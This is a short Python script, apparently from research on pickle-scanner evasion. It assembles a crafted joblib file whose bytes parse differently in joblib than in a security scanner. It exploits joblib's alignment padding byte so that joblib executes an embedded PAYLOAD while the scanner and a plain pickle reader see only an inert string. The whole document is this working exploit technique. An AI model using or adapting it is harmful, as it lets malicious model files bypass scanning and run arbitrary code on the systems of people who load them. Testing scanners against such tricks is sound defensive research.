from mk import *
# Wrapper made by calling the class with 4 args: joblib's __init__ default alignment is 16 (reads padding byte), scanner assumes None.
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'K\x0a\x85'+U('C')+dtype('u1')+b'tR}b'
p = len(b'\x80\x02')+len(W)
# joblib: at p reads pad byte P, skips P, reads 10 bytes. scanner: skips 10 bytes from p.
P = 0x54   # 'T': plain pass reads BINSTRING whose 4-byte length follows
pad = bytearray(b'\xff'*P)
arr = b'\x00'*10
tail_joblib = b'0'+PAYLOAD+b'.'   # joblib: POP array, run payload
# Layout: [P][pad(P)][arr(10)][tail_joblib]
total_after = 1+P+10+len(tail_joblib)
end = p+total_after   # file length
# plain: at p: 'T' + len(pad[0:4]) -> string covering up to end-1 (last byte '.' is STOP)
L1 = total_after-1-5
pad[0:4]=struct.pack('<i',L1)
# scanner: resumes at p+10 = pad[9]: POP, then BINSTRING covering up to end-1
k=9
pad[k]=ord('0'); L2 = total_after-1-(k+1+1+4)+1  # from pad[k+2+4] i.e. offset 1+k+6 to total_after-1
L2 = (total_after-1) - (1+k+1+5)
pad[k+1:k+6]=b'T'+struct.pack('<i',L2)
data = b'\x80\x02'+W+bytes([P])+bytes(pad)+arr+tail_joblib
assert len(data)==end
check('x1.joblib', data)
